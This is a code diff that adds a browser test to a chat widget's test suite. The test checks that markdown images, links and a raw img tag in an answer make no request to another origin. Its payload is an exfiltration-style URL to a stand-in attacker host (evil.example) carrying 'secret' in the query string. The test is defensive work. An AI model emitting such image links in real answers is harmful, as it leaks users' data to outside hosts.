@@ -66,6 +66,17 @@ async def test_a_script_tag_puts_a_chat_on_another_site(start: Start, visit: Ope
         await expect(chat.button("Open chat")).to_be_focused()
 
 
+async def test_pictures_and_links_of_an_answer_ask_nobody(start: Start, visit: Open):
+    async with shop(start) as (found, service):
+        chat = await open_bubble(visit, found, service)
+        secret = "https://evil.example/?q=secret"
+        await chat.say(f"![a]({secret}) [c]({secret}) <img src='{secret}'>")
+        await expect(chat.answer.locator("a")).to_have_attribute("href", secret)
+        await expect(chat.answer).to_contain_text("a c <img")
+        # `visit` checks at its end that no request has left for another origin.
+        await expect(chat.answer.locator("img")).to_have_count(0)
+
+
 async def test_the_thread_is_remembered_from_page_to_page(start: Start, visit: Open):
     async with shop(start) as (found, service):
         found.pages["/other"] = found.pages["/"]
